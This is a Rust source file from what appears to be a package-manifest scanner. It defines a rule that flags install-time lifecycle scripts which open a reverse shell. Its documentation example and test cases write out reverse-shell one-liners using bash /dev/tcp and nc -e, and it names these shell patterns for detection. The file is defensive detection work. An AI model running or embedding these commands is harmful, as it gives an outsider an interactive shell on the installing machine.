use palisade_diagnostics::Finding;

use super::{script_finding, scripts};
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds lifecycle scripts shaped like a reverse shell: `/dev/tcp/HOST/PORT`
    /// redirections, `bash -i >&`, `nc -e`, `mkfifo` with `nc`.
    ///
    /// ## Why is this bad?
    /// A reverse shell hands an interactive shell on the installing machine to
    /// whoever listens at the other end. There is no honest use in a package.
    ///
    /// ## Example
    /// ```json
    /// "scripts": { "preinstall": "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" }
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1059.004 (Unix shell).
    InstallScriptReverseShell {
        id: "manifest/install-script-reverse-shell",
        severity: Critical,
        status: Stable,
        summary: "A lifecycle script opens a reverse shell",
    }
}

impl Rule for InstallScriptReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for (s, t) in scripts(ctx) {
            if t.reverse_shell {
                out.push(script_finding(
                    ctx,
                    Self::META.id,
                    Self::META.severity,
                    s,
                    format!(
                        "`{}` script opens a reverse shell: `{}`",
                        s.event, s.command
                    ),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&InstallScriptReverseShell::META).test(
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"preinstall":"bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"nc -e /bin/sh 127.0.0.1 4444"}}"#),
            ],
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"echo done > /dev/null"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"node install.js --tcp"}}"#),
            ],
        );
    }
}
